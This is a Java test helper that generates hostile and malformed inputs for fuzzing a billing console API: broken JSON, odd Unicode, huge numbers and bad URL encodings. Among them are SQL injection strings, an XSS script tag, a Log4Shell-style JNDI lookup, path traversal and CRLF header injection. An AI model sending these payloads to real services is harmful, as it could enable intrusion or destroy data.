package org.partnerconsole.addons.hostile;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import org.partnerconsole.billing.demo.SampleOrder;

/** Values that no honest client sends, and some that one does, in the wrong place. */
final class HostileValues {

    /** As tokens of JSON; some are none. */
    private static final List<String> TOKENS =
            List.of(
                    "null",
                    "true",
                    "false",
                    "0",
                    "1",
                    "-1",
                    "-0",
                    "-0.0",
                    "2.0",
                    "2.5",
                    "1e0",
                    "1e999",
                    "-1e999",
                    "1e-999",
                    "1e99999999999",
                    "2147483647",
                    "2147483648",
                    "-2147483649",
                    "9223372036854775808",
                    "0x1F",
                    "007",
                    "+1",
                    ".5",
                    "NaN",
                    "Infinity",
                    "-Infinity",
                    "undefined",
                    "'x'",
                    "\"",
                    "{",
                    "}",
                    "]",
                    "[,]",
                    "{,}",
                    "{}",
                    "[]",
                    "[null]",
                    "[[]]",
                    "{\"\":null}",
                    "/* x */ 1",
                    "\"\\ud800\"",
                    "\"\\udc00\\ud800\"",
                    "\"a\\ud83d\"",
                    "\"\\u0000\"",
                    "\"a\\u0000b\"",
                    "\"\\u001b[2J\"",
                    "\"\\x\"",
                    "\"\\u12\"",
                    "\"\t\"",
                    "9".repeat(999),
                    "9".repeat(1001),
                    "0." + "1".repeat(1001),
                    nested("[", "]", 400),
                    nested("{\"a\":", "}", 400),
                    "[".repeat(2000),
                    nested("[", "]", 2000),
                    list("0"),
                    list("{}"),
                    list("{\"OfferId\":\"x\",\"Quantity\":1}"),
                    list("null"));

    /** As texts. */
    private static final List<String> TEXTS =
            List.of(
                    "",
                    " ",
                    "\u00a0",
                    "\u3000",
                    "x",
                    "0",
                    "-1",
                    "1.5",
                    "1e3",
                    "null",
                    "*",
                    "*/*",
                    "none",
                    "active",
                    "suspended",
                    "deleted",
                    "cancelled",
                    "pending",
                    "monthly",
                    "annual",
                    "US",
                    "us",
                    "ZZ",
                    "USA",
                    "\u212a\u0131",
                    "en-US",
                    "x-y-z",
                    "Next",
                    "\u0000",
                    "a\u0000b",
                    "\r\nX: y",
                    "\u0007",
                    "\u001b[2J",
                    "\u007f",
                    "\u0085",
                    "\u2028",
                    "\u202egnp.x",
                    "\ufeff",
                    "\uffff",
                    "\ufffd",
                    "\ud800",
                    "\udc00\ud800",
                    "x\ud83d",
                    "\ud83d\ude00",
                    "\u0130",
                    "\u00df",
                    "%",
                    "%s%n%x",
                    "%00",
                    "%2e%2e%2f",
                    "../../..",
                    "..;/",
                    "//",
                    "\\",
                    "'",
                    "\"",
                    "' or 1=1 --",
                    "'; drop table offer --",
                    "_",
                    "%%",
                    "!",
                    "<script>alert(1)</script>",
                    "{0}",
                    "${jndi:ldap://x.example}",
                    "#{1+1}",
                    "W/\"x\"",
                    "\"\"",
                    "a@b.example",
                    "@",
                    "localhost",
                    "a.example",
                    "4d3cf487-70f4-4e1e-9ff1-b2bfce8d9f05",
                    "1-1-1-1-1",
                    "{\"Field\":\"Domain\"}",
                    "{\"Field\":\"CompanyName\",\"Value\":\"\\u0000\",\"Operator\":\"starts_with\"}",
                    "{\"Field\":\"CompanyName\",\"Value\":\"\\ud800\",\"Operator\":\"starts_with\"}",
                    "{\"Field\":\"CompanyName\",\"Value\":{},\"Operator\":[]}",
                    "[]",
                    "{",
                    "2020-09-246",
                    "9999-12-31",
                    "+999999999-12-31",
                    "-999999999-01-01",
                    "2026-01-01T00:00:00Z",
                    "2026-02-30",
                    "0:1:NAME:",
                    "MDoxOk5BTUU6",
                    "MDoxOk5BTUU6AA==",
                    "LTE6MTpOQU1FOg==",
                    "MjE0NzQ4MzY0Nzo1MDA6TkFNRTo=",
                    "MDoxOk5BTUU67aCA",
                    "eyJpZCI6IngiLCJ2ZXJzaW9uIjoxfQ==",
                    "2147483647",
                    "2147483648",
                    "999999999",
                    "99999999999999999999");

    private static final List<String> MOMENTS =
            List.of(
                    "+999999999-12-31T23:59:59Z",
                    "-999999999-01-01T00:00:00Z",
                    "9999-12-31",
                    "0000-01-01T00:00:00Z",
                    "2026-01-01T00:00:00+18:00",
                    "2020-09-366",
                    "2020-00-00");

    private static final List<String> LETTERS =
            List.of("x", "é", "株", "\ud83d\ude00", "\u0000", "%");

    private static final List<String> KNOWN =
            List.of(
                    SampleOrder.CUSTOMER.value(),
                    SampleOrder.ORDER.value(),
                    SampleOrder.SUBSCRIPTION.value(),
                    SampleOrder.BASE.value(),
                    SampleOrder.ADD_ON.value());

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    /** A token for a JSON body, or what is none. */
    String token() {
        return random.nextBoolean() ? any(TOKENS) : quoted(text());
    }

    /** A text. */
    String text() {
        return switch (random.nextInt(16)) {
            case 0 -> any(KNOWN);
            case 1 -> any(LETTERS).repeat(random.nextInt(70));
            // So that what is cut off by halves of a letter falls on each half.
            case 2 -> any(MOMENTS);
            case 3 -> token("%s %s %s %s %s");
            case 4 -> token("%5$s:%4$s:NAME:%1$s");
            case 5 -> "y" + any(LETTERS).repeat(random.nextInt(3000));
            default -> any(TEXTS);
        };
    }

    /** Something like the token of a page. */
    private String token(String pattern) {
        String text =
                pattern.formatted(
                        any(MOMENTS),
                        any(MOMENTS),
                        random.nextInt(),
                        random.nextInt(-1, 3),
                        any(TEXTS));
        return Base64.getUrlEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    /** All texts, as parts of an address, encoded as clients do it. */
    static List<String> parts() {
        return Stream.concat(TEXTS.stream(), MOMENTS.stream()).map(HostileValues::encoded).toList();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** A part of an address: most are encoded as clients do it, some in no way at all. */
    String part() {
        return switch (random.nextInt(10)) {
            case 0 ->
                    any(
                            List.of(
                                    "%",
                                    "%0",
                                    "%zz",
                                    "%ff",
                                    "%c0%80",
                                    "%ed%a0%80",
                                    "%00",
                                    "%2f",
                                    "%5c"));
            case 1 -> text();
            default -> encoded(text());
        };
    }

    private String any(List<String> all) {
        return all.get(random.nextInt(all.size()));
    }

    /** With escapes for all that is not ASCII, halves of letters among it. */
    private static String quoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        text.chars()
                .forEach(
                        unit -> {
                            if (unit < ' ' || unit > '~' || unit == '"' || unit == '\\') {
                                json.append("\\u%04x".formatted(unit));
                            } else {
                                json.append((char) unit);
                            }
                        });
        return json.append('"').toString();
    }

    private static String nested(String open, String close, int depth) {
        return open.repeat(depth) + "1" + close.repeat(depth);
    }

    private static String list(String item) {
        return "[" + (item + ",").repeat(9_999) + item + "]";
    }
}
